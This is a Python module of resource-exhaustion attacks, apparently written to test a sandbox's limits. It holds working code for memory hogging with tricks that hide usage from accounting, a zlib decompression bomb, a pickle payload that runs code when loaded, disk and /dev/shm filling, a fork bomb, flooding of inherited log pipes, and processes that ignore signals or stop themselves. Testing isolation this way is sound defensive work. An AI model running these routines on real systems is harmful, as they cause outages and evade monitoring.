"""Attacks by using too much, and by not ending. Those that are ended never return."""

import ctypes
import mmap
import os
import resource
import signal
import stat
import sys
import time
import zlib

from attack_calls import LIBC, syscall

PIECE = 8 << 20


def _fill(mapping, size):
    for start in range(0, size, 4096):
        mapping[start] = 1


def memory(size, **_):
    """Take memory, page by page."""
    taken = []
    for _ in range(size // PIECE):
        taken.append(bytearray(PIECE))
        _fill(taken[-1], PIECE)
    return f"took {len(taken) * PIECE} bytes"


def memory_out_of_sight(size, **_):
    """Take shared memory and tell the kernel that this process does not need to see it for now."""
    taken = mmap.mmap(-1, size)
    address = ctypes.addressof(ctypes.c_char.from_buffer(taken))
    for start in range(0, size, PIECE):
        taken[start : start + PIECE] = b"x" * PIECE
        syscall("madvise", address + start, PIECE, 4)  # MADV_DONTNEED
    time.sleep(4)  # whoever counts now and then had the time to
    return f"took {size} bytes, and shows {resource.getrusage(resource.RUSAGE_SELF).ru_maxrss}"


def memory_files(size, **_):
    """Write to files in memory, which are no process's."""
    files = []
    for _ in range(size // PIECE):
        files.append(os.memfd_create("taken"))
        os.write(files[-1], bytes(PIECE))
    time.sleep(4)
    return f"took {len(files) * PIECE} bytes"


def memory_of_children(size, **_):
    """Take memory in many processes, none of which has much."""
    reading, writing = os.pipe()
    for _ in range(8):
        if os.fork() == 0:
            taken = bytearray(size // 8)
            _fill(taken, len(taken))
            os.write(writing, b"x")
            time.sleep(60)
            os._exit(0)
    taken = 0
    while taken < 8:
        taken += len(os.read(reading, 8))
    time.sleep(3)
    return f"took {size} bytes"


def memory_in_flight(size, **_):
    """Put descriptors of memory into messages that nobody receives."""
    import array
    import socket

    one, two = socket.socketpair()
    sent = 0
    with one, two:
        while sent < size:
            held = os.memfd_create("taken")
            os.write(held, bytes(PIECE))
            one.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [held]))])
            os.close(held)
            sent += PIECE
        time.sleep(4)
    return f"took {sent} bytes"


def hidden_memory(size, **_):
    """Take memory in a process that does not let itself be looked at."""
    if LIBC.prctl(4, 0, 0, 0, 0) != 0:  # PR_SET_DUMPABLE
        raise OSError(ctypes.get_errno(), "prctl")
    return memory(size)


def decompression(size, **_):
    """A small object that becomes a large one."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = packer.compress(bytes(PIECE)) + packer.flush(zlib.Z_FULL_FLUSH)  # after this it can begin again
    bomb = piece * (size // PIECE)
    assert len(bomb) < size // 500
    return f"became {len(zlib.decompressobj(-15).decompress(bomb))} bytes"


def pickle_bomb(size, **_):
    """An object that runs code when it is read."""
    import pickle

    code = f"import attack_resources; attack_resources.memory({size})"
    return "ran: {}".format(pickle.loads(b"cbuiltins\nexec\n(S" + repr(code).encode() + b"\ntR."))


def disk(size, **_):
    """Fill the directory for temporary files."""
    for number in range(size // PIECE):
        with open(f"file-{number}", "wb") as file:
            file.write(b"x" * PIECE)
    time.sleep(4)
    return f"wrote {size} bytes"


def removed_files(size, **_):
    """The same with files that have no name any more."""
    held = []
    for number in range(size // PIECE):
        held.append(open(f"file-{number}", "wb"))  # noqa: SIM115
        held[-1].write(b"x" * PIECE)
        held[-1].flush()
        os.unlink(f"file-{number}")
    time.sleep(4)
    return f"wrote {size} bytes"


def shared_memory(size, **_):
    """Fill /dev/shm."""
    for number in range(size // PIECE):
        with open(f"/dev/shm/file-{os.getpid()}-{number}", "wb") as file:
            file.write(b"x" * PIECE)
    return f"wrote {size} bytes"


def deep_directories(levels, **_):
    """Directories in one another, deeper than a path can name and than those who remove them may count on."""
    for _ in range(levels):
        os.mkdir("deeper")
        os.chdir("deeper")
    with open("file", "w") as file:
        file.write("left behind")
    return f"made {levels} levels"


def output(size, **_):
    for _ in range(size // PIECE):
        os.write(1, bytes(PIECE))
    return f"wrote {size} bytes"


def sparse_output(size, **_):
    os.ftruncate(1, size)
    return f"extended to {size} bytes"


def log(size, **_):
    """Print past the object's own streams, to the log of the transform."""
    sys.stdout.flush()
    written = 0
    for fd in range(3, 4096):
        try:
            if not stat.S_ISFIFO(os.fstat(fd).st_mode):
                continue
        except OSError:
            continue
        os.set_blocking(fd, False)
        end = time.monotonic() + 1
        while time.monotonic() < end and written < size:
            try:
                written += os.write(fd, b"x" * 65536)
            except BlockingIOError:
                time.sleep(0.001)
            except OSError:
                break
    return "printed all of it" if written >= size else None


def contexts(**_):
    """Take what the whole machine has a number of: requests of asynchronous I/O."""
    context = ctypes.c_ulong(0)
    syscall("io_setup", 1024, ctypes.byref(context))
    return "took 1024 of the machine's requests"


def processes(count, **_):
    """Fork until it is refused."""
    children = []
    reading, writing = os.pipe()
    try:
        for _ in range(count):
            pid = os.fork()
            if pid == 0:
                os.close(writing)
                os.read(reading, 1)
                os._exit(0)
            children.append(pid)
        time.sleep(1.5)
        return f"has {len(children)} processes"
    except BlockingIOError as error:
        raise OSError(error.errno, f"no more than {len(children)}") from None
    finally:
        os.close(writing)
        for pid in children:
            os.waitpid(pid, 0)


def endless(**_):
    while True:
        pass


def ignore_signals(**_):
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        time.sleep(1)


def stop_itself(**_):
    LIBC.kill(0, signal.SIGSTOP)
    LIBC["raise"](signal.SIGSTOP)
    while True:
        time.sleep(1)
